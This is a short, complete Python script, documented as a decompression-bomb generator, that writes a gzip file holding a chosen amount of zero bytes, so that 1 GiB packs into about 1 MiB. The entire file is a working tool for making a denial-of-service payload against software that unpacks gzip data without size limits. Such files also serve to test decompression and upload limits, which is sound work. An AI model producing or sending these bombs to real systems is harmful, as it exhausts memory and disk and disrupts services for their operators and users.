#!/usr/bin/env python3
"""Writes a gzip member holding SIZE zero bytes to OUT (a decompression bomb: 1 GiB packs into
about 1 MiB). Usage: gzip_bomb.py OUT SIZE"""

import sys
import zlib


def main() -> int:
    out, size = sys.argv[1], int(sys.argv[2])
    z = zlib.compressobj(9, zlib.DEFLATED, 31)  # wbits 31: a gzip header and trailer
    chunk = bytes(1 << 20)
    with open(out, "wb") as f:
        left = size
        while left > 0:
            n = min(left, len(chunk))
            f.write(z.compress(chunk[:n]))
            left -= n
        f.write(z.flush())
    return 0


if __name__ == "__main__":
    sys.exit(main())
